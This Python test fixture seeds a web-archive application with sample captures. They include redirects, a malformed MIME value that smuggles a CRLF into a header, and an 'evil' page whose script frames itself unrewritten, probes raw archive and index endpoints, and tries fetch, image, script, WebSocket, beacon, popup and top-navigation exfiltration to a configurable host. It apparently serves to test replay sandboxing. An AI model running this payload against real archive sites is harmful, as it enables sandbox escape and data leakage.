"""Fills the archive of a running Ronda: `python -m tests.archive.fill`, with its environment."""

from __future__ import annotations

import json
import os
import sys
from datetime import UTC, datetime

os.environ["DJANGO_SETTINGS_MODULE"] = "ronda.site.settings"

import django

django.setup()

from tests.archive.keeping import keeping  # noqa: E402

PAGE = """<!doctype html><title>{title}</title><link rel="stylesheet" href="style.css"><script>
document.documentElement.dataset.ran = location.origin;</script><h1>{title}</h1><img src="/pixel.png" alt="pixel">
<a href="/next">next</a>"""
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f01f0005000"
    "1ff89993d1d0000000049454e44ae426082"
)


# Frames itself unrewritten and raw, and from there tries every way out that pages know.
EVIL = """<!doctype html><title>Evil</title><h1>Evil</h1><script>
const out = LEAK, here = location.pathname, ways = {};
if (typeof wbinfo !== "undefined" && !here.includes("bn_")) {
  for (const how of ["bn_", "id_"]) {
    const frame = document.createElement("iframe");
    frame.name = how;
    frame.src = wbinfo.prefix + wbinfo.timestamp + how + "/" + wbinfo.url;
    document.body.append(frame);
  }
} else {
  const root = "/" + here.split("/")[1] + "/";
  const read = path => fetch(path).then(answer => answer.status, () => 0);
  const sent = (name, attempt) => Promise.resolve().then(attempt)
    .then(() => { ways[name] = "done"; }, () => { ways[name] = "refused"; });
  const load = (tag, name, more) => new Promise((good, bad) => {
    const one = document.createElement(tag);
    Object.assign(one, more, {onload: good, onerror: bad});
    one[name] = out + tag;
    document.body.append(one);
  });
  (async () => {
    ways.page = await read(root + "20260301120000mp_/http://site.example/");
    ways.index = await read(root + "cdx?url=site.example&matchType=host");
    ways.list = await read(root + "*/http://site.example/");
    await sent("fetch", () => fetch(out + "fetch", {mode: "no-cors"}));
    await sent("image", () => load("img", "src"));
    await sent("script", () => load("script", "src"));
    await sent("style", () => load("link", "href", {rel: "stylesheet"}));
    await sent("socket", () => new Promise((good, bad) => {
      Object.assign(new WebSocket(out.replace("http", "ws") + "socket"), {onopen: good, onerror: bad});
    }));
    navigator.sendBeacon(out + "beacon", "x");
    ways.popup = String(window.open(out + "popup"));
    try { top.location = out + "top"; } catch (error) { ways.top = "refused"; }
    document.documentElement.dataset.ways = JSON.stringify(ways);
  })();
}
</script>"""


def main() -> None:
    def at(day: int) -> datetime:
        return datetime(2026, 3, day, 12, tzinfo=UTC)

    kept: dict[str, int] = {}
    with keeping() as keeper:
        root = "http://site.example/"
        first = keeper.keep(root, PAGE.format(title="The first version"), at=at(1))
        pixel = keeper.keep(f"{root}pixel.png", PIXEL, at=at(1), mime="image/png")
        keeper.keep(f"{root}style.css", "h1 { color: rgb(1, 2, 3) }", at=at(1), mime="text/css")
        kept["first"] = first.pk
        kept["second"] = keeper.keep(root, PAGE.format(title="The second version"), at=at(5)).pk
        keeper.writer.close()  # revisits stand in another file than what they refer to
        keeper.revisit(pixel, at=at(5))
        kept["again"] = keeper.revisit(first, at=at(9)).pk
        kept["elsewhere"] = keeper.revisit(first, url=f"{root}copy", at=at(9)).pk
        kept["private"] = keeper.keep(
            "http://secret.example/", "<p>secret", at=at(2), collection="cultural"
        ).pk
        for name, location in (("self", f"{root}self"), ("far", root + "f" * 30_000)):
            keeper.keep(f"{root}{name}", "", at=at(1), status=302, location=location)
        keeper.keep(f"{root}missing", "<p>No such page here", at=at(1), status=404)
        keeper.keep(f"{root}broken", "", at=at(1), mime="text/html\r\nNo name@: of a field")
        evil = EVIL.replace("LEAK", json.dumps(sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.2:9/"))
        kept["evil"] = keeper.keep("http://evil.example/", evil, at=at(3)).pk
    sys.stdout.write(json.dumps(kept))


if __name__ == "__main__":
    main()
